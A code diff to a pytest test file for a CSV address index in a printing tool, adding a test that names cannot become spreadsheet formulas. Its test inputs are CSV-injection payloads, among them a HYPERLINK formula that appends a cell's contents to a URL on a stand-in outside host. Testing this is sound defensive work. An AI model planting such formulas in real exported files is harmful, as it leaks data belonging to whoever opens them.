@@ -4,6 +4,7 @@ import csv
 import hashlib
 import io
 import zipfile
+from dataclasses import replace
 from uuid import UUID
 
 import pytest
@@ -54,7 +55,17 @@ def test_an_address_of_more_than_six_lines_goes_on_in_the_sixth() -> None:
     assert row[7:13] == ["A", "B", "C", "D", "E", "F, G, H"]
 
 
-@pytest.mark.parametrize("name", ['A; "B"', "Två\nrader", "=1+1", "Łukasz Żółć"])
+@pytest.mark.parametrize("name", ['A; "B"', "Två\nrader", "Bygg = Bo & Co", "Łukasz Żółć"])
 def test_any_name_is_one_cell(name: str) -> None:
     (_, row) = index(print_batch([printed(recipient=(name, "Gatan 1"))], return_address="Box 1"))
     assert (row[7], row[8], len(row)) == (name, "Gatan 1", len(HEADER))
+
+
+@pytest.mark.parametrize(
+    "name",
+    ['=HYPERLINK("https://elsewhere.example/?"&C2;"Anna Ek")', "+1", "-1", "@SUM(A1)", "\t=1+1", "\n=1+1", "＝1+1"],
+)
+def test_no_name_is_a_formula_when_a_person_opens_the_index(name: str) -> None:
+    hostile = replace(printed(recipient=(name, name)), postcode=name, town=name, country=name)
+    (_, row) = index(print_batch([hostile], return_address="Box 1"))
+    assert {row[place] for place in (7, 8, 13, 14, 15)} == {f"'{name}"}
